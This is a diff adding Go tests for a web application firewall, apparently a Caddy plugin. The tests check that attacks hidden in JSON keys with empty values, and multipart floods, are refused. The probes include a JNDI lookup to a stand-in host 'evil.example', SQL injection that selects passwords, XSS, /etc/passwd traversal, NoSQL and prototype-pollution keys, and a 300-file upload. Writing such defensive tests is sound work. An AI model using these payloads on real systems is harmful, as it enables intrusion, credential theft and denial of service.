@@ -1,0 +1,91 @@
+package waf
+
+import (
+	"bytes"
+	"fmt"
+	"mime/multipart"
+	"slices"
+	"testing"
+)
+
+func TestJSONEmptyContainers(t *testing.T) {
+	for body, want := range map[string][]string{
+		`{"a":1}`:                            nil,
+		`{}`:                                 nil,
+		`[]`:                                 nil,
+		`{"a":{}}`:                           {"json.a"},
+		`{"a":[]}`:                           {"json.a"},
+		`{"user":"x","password":{"$ne":[]}}`: {"json.password.$ne"},
+		`{"__proto__":{"isAdmin":{}}}`:       {"json.__proto__.isAdmin"},
+		`{"a":[{"../../etc/passwd":[]},{}]}`: {"json.a.0.../../etc/passwd", "json.a.1"},
+		`{"\u0024where":{},"b":[1,{"c":{}}],"d":2}`: {"json.$where", "json.b.1.c"},
+		`[{"k":{}}]`: {"json.0.k"},
+		`{"a":{} `:   {"json.a"}, // cut short: what was read
+	} {
+		if got := jsonEmptyContainers([]byte(body)); !slices.Equal(got, want) {
+			t.Errorf("%s: got %q, want %q", body, got, want)
+		}
+	}
+}
+
+func TestCountParts(t *testing.T) {
+	body := func(fields, files int) ([]byte, string) {
+		var b bytes.Buffer
+		mw := multipart.NewWriter(&b)
+		for i := range fields {
+			_ = mw.WriteField(fmt.Sprintf("f%d", i), "x")
+		}
+		for i := range files {
+			w, _ := mw.CreateFormFile(fmt.Sprintf("u%d", i), "a.txt")
+			_, _ = w.Write([]byte("x"))
+		}
+		_ = mw.Close()
+		return b.Bytes(), mw.Boundary()
+	}
+	for _, c := range []struct {
+		fields, files int
+		refused       bool
+	}{{128, 0, false}, {129, 0, true}, {0, maxFileParts, false}, {0, maxFileParts + 1, true}, {100, 16, false}, {120, 9, true}} {
+		b, boundary := body(c.fields, c.files)
+		if err := countParts(b, boundary, 128); (err != nil) != c.refused {
+			t.Errorf("%d fields and %d files: err %v, want refused %v", c.fields, c.files, err, c.refused)
+		}
+	}
+}
+
+// TestBodyShapesTheEngineMissed: through a real Caddy, what the fresh
+// attack on the WAF got past it: JSON keys whose value is {} or [] (never
+// arguments to the engine), and hundreds of multipart file parts (each a
+// temporary file, 200-400 ms of CPU per request, past the stated bound).
+func TestBodyShapesTheEngineMissed(t *testing.T) {
+	base, hits := startCaddy(t, "waf")
+	var mp bytes.Buffer
+	mw := multipart.NewWriter(&mp)
+	for i := range 300 {
+		w, _ := mw.CreateFormFile("f", fmt.Sprintf("a%d", i))
+		_, _ = w.Write(nil)
+	}
+	_ = mw.Close()
+	for _, p := range []probe{
+		{name: "jndi in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"${jndi:ldap://evil.example/a}":{}}`},
+		{name: "SQL injection in a key of []", method: "POST", path: "/j", contentType: "application/json", body: `{"sort":{"1 UNION SELECT password FROM users--":[]}}`},
+		{name: "XSS in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"<script>alert(1)</script>":{}}`},
+		{name: "traversal in a nested key of []", method: "POST", path: "/j", contentType: "application/json", body: `{"a":[{"../../../../etc/passwd":[]}]}`},
+		{name: "300 empty file parts", method: "POST", path: "/upload", contentType: mw.FormDataContentType(), body: mp.String()},
+	} {
+		before := *hits
+		code, body := send(t, base, p)
+		if code < 400 || code > 499 || *hits != before {
+			t.Errorf("%s: %d %.200s (backend hits +%d), want it refused", p.name, code, body, *hits-before)
+		}
+	}
+	// and ordinary documents with empty members still pass
+	for _, p := range []probe{
+		{name: "empty list and object", method: "POST", path: "/j", contentType: "application/json", body: `{"tags":[],"meta":{},"name":"O'Brien"}`},
+	} {
+		before := *hits
+		if code, body := send(t, base, p); code != 200 || *hits != before+1 {
+			t.Errorf("%s: %d %.200s, want it passed", p.name, code, body)
+		}
+	}
+}
